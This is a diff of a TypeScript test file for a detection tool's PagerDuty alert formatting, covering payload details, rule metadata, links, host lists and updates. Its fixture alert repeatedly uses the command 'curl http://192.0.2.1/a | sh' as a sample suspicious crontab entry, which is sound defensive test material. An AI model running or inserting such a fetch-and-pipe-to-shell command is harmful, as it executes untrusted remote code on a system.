@@ -5,7 +5,8 @@ import { describe, expect, it } from 'vitest'
 import { PagerDutyModel } from '../../test/simulator/pagerduty.ts'
 import { SEVERITIES } from '../detect/severity.ts'
 import type { Alert } from '../store/alerts.ts'
-import { BODY_MAX_BYTES, classifyPagerDuty, dedupKeyOf, pagerDutyBodies, type Telling } from './pagerduty.ts'
+import { classifyPagerDuty } from './pagerduty.ts'
+import { BODY_MAX_BYTES, dedupKeyOf, type PagerDutyTelling, pagerDutyBodies } from './pagerduty-body.ts'
 
 const KEY = '0123456789abcdef0123456789abcdef'
 const AT = Date.UTC(2026, 10, 24, 12)
@@ -40,8 +41,8 @@ function alertOf(overrides: Partial<Alert> = {}): Alert {
   }
 }
 
-function bodiesOf(overrides: Partial<Telling> = {}) {
-  const telling: Telling = {
+function tellingOf(overrides: Partial<PagerDutyTelling> = {}): PagerDutyTelling {
+  return {
     action: 'trigger',
     alert: alertOf(),
     columns: { command: 'curl http://192.0.2.1/a | sh' },
@@ -49,8 +50,10 @@ function bodiesOf(overrides: Partial<Telling> = {}) {
     publicUrl: 'https://margay.example.com',
     ...overrides,
   }
-  const texts = pagerDutyBodies(telling)
-  return texts.map(text => JSON.parse(text))
+}
+
+function bodiesOf(overrides: Partial<PagerDutyTelling> = {}) {
+  return pagerDutyBodies(tellingOf(overrides)).map(text => JSON.parse(text))
 }
 
 describe('a trigger', () => {
@@ -79,6 +82,8 @@ describe('a trigger', () => {
           count: 3,
           first_seen: '2026-11-24T12:00:00.000Z',
           last_seen: '2026-11-24T12:01:00.000Z',
+          query: 'crontab',
+          pack: 'incident-response',
           runbook: 'Read the file the job came from.',
           columns: { command: 'curl http://192.0.2.1/a | sh' },
           context: { command: 'curl' },
@@ -152,7 +157,67 @@ describe('a trigger', () => {
     expect(Object.keys(payload.custom_details.columns)).toHaveLength(50)
     expect([...payload.custom_details.columns.c0]).toHaveLength(256)
     expect(payload.custom_details.note).toContain('Shortened')
+    expect(payload.custom_details.context).toEqual({ command: 'curl' })
+  })
+
+  it('leaves the context out when even that is too much', () => {
+    const context = JSON.stringify({ found: 'x'.repeat(600_000) })
+    const [{ payload }] = bodiesOf({ alert: alertOf({ context }) })
     expect(payload.custom_details).not.toHaveProperty('context')
+    expect(payload.custom_details).toMatchObject({ columns: { command: 'curl http://192.0.2.1/a | sh' } })
+  })
+
+  it('tells what the rule says of it, and links what it refers to', () => {
+    const rule = {
+      means: 'Whoever serves the file runs code here.',
+      check: 'SELECT * FROM crontab',
+      benign: 'Installers.',
+      references: Array.from({ length: 7 }, (_, n) => `https://example.com/${n}`),
+    }
+    const [{ payload, links }] = bodiesOf({ rule })
+    expect(payload.custom_details).toMatchObject({
+      means: 'Whoever serves the file runs code here.',
+      check: 'SELECT * FROM crontab',
+      benign: 'Installers.',
+      runbook: 'Read the file the job came from.',
+    })
+    expect(links.map(({ href }: { href: string }) => href)).toEqual([
+      'https://margay.example.com/alerts/a1b2c3',
+      ...rule.references.slice(0, 5),
+    ])
+  })
+
+  it('says nothing in the name of a rule that is gone or silent', () => {
+    const rule = { means: '', check: '', benign: '', references: [] }
+    for (const [{ payload, links }] of [bodiesOf(), bodiesOf({ rule })]) {
+      for (const name of ['means', 'check', 'benign', 'hosts']) {
+        expect(payload.custom_details).not.toHaveProperty(name)
+      }
+      expect(links).toHaveLength(1)
+    }
+  })
+
+  it('names the hosts of an alert over several', () => {
+    const [{ payload }] = bodiesOf({ hosts: ['db-1.example.com', 'web-1.example.com'] })
+    expect(payload.custom_details.hosts).toEqual(['db-1.example.com', 'web-1.example.com'])
+  })
+})
+
+describe('an update', () => {
+  it('is a trigger of the same key with the present numbers: it adds to the incident and wakes nobody', () => {
+    const model = new PagerDutyModel([KEY])
+    const [trigger = ''] = pagerDutyBodies(tellingOf())
+    model.enqueue(trigger, AT)
+    model.enqueue(JSON.stringify(bodiesOf({ action: 'acknowledge' })[0]), AT + 1)
+    const grown = alertOf({ eventCount: 40, lastEventAt: AT + 600_000 })
+    const [update = ''] = pagerDutyBodies(tellingOf({ action: 'update', alert: grown }))
+    model.enqueue(update, AT + 600_000)
+    expect(JSON.parse(update).payload.custom_details).toMatchObject({
+      count: 40,
+      first_seen: '2026-11-24T12:00:00.000Z',
+      last_seen: '2026-11-24T12:10:00.000Z',
+    })
+    expect(model.incidents).toMatchObject([{ status: 'acknowledged', repeats: 1 }])
   })
 })
 
@@ -181,8 +246,15 @@ const text = fc.oneof(
   fc.constantFrom('', '\ud800', '\u0000\u202e', '\u{1f408}'.repeat(3_000), '__proto__', 'x'.repeat(600_000)),
 )
 
-const tellings = fc.record<Telling>({
-  action: fc.constantFrom('trigger', 'acknowledge', 'resolve'),
+const tellings = fc.record<PagerDutyTelling>({
+  action: fc.constantFrom('trigger', 'update', 'acknowledge', 'resolve'),
+  rule: fc.record({
+    means: text,
+    check: text,
+    benign: text,
+    references: fc.array(fc.webUrl(), { maxLength: 3 }),
+  }),
+  hosts: fc.array(text, { maxLength: 20 }),
   alert: fc
     .record({
       alertId: fc.nat().map(number => number.toString(16).padStart(20, '0')),
